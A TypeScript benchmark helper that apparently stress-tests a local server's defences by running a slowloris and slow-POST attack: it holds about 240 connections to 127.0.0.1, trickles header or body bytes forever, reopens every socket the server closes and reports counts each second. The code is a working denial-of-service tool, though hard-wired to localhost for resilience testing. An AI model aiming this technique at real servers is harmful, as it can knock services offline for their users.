// slowloris.ts — an attacker process for bench/slowloris.ts: keeps SOCKETS connections to
// 127.0.0.1:PORT, each trickling an endless header one byte every INTERVAL ms (slowloris), and
// a tenth of them a body that never completes (slow POST); a socket the server closes is
// replaced at once, so the pressure holds for the whole run. It prints one JSON line per second:
// {"open": N, "closedByServer": M}. Usage: node bench/support/slowloris.ts PORT [SOCKETS] [INTERVAL]

import { connect, type Socket } from 'node:net';

const port = Number(process.argv[2]);
const sockets = Number(process.argv[3] ?? 240);
const intervalMs = Number(process.argv[4] ?? 100);
const header = `POST /predict HTTP/1.1\r\nhost: a\r\nx-slow: ${'a'.repeat(100_000)}`;
let closedByServer = 0;
const open = new Set<Socket>();

function attack(slowBody: boolean): void {
  const socket = connect(port, '127.0.0.1');
  socket.setNoDelay(true);
  open.add(socket);
  let offset = 0;
  socket.on('connect', () => {
    if (slowBody) socket.write('POST /predict HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n{"instances":[');
  });
  const drip = setInterval(() => {
    if (socket.destroyed || !socket.writable) return;
    socket.write(slowBody ? '0,' : header[offset++ % header.length]!);
  }, intervalMs);
  socket.on('error', () => {});
  socket.resume(); // read (and drop) the server's 408, so its close reaches us
  socket.on('close', () => {
    clearInterval(drip);
    open.delete(socket);
    closedByServer++;
    attack(slowBody); // keep the pressure on
  });
}

for (let i = 0; i < sockets; i++) attack(i % 10 === 0);
setInterval(() => process.stdout.write(`${JSON.stringify({ open: open.size, closedByServer })}\n`), 1000);
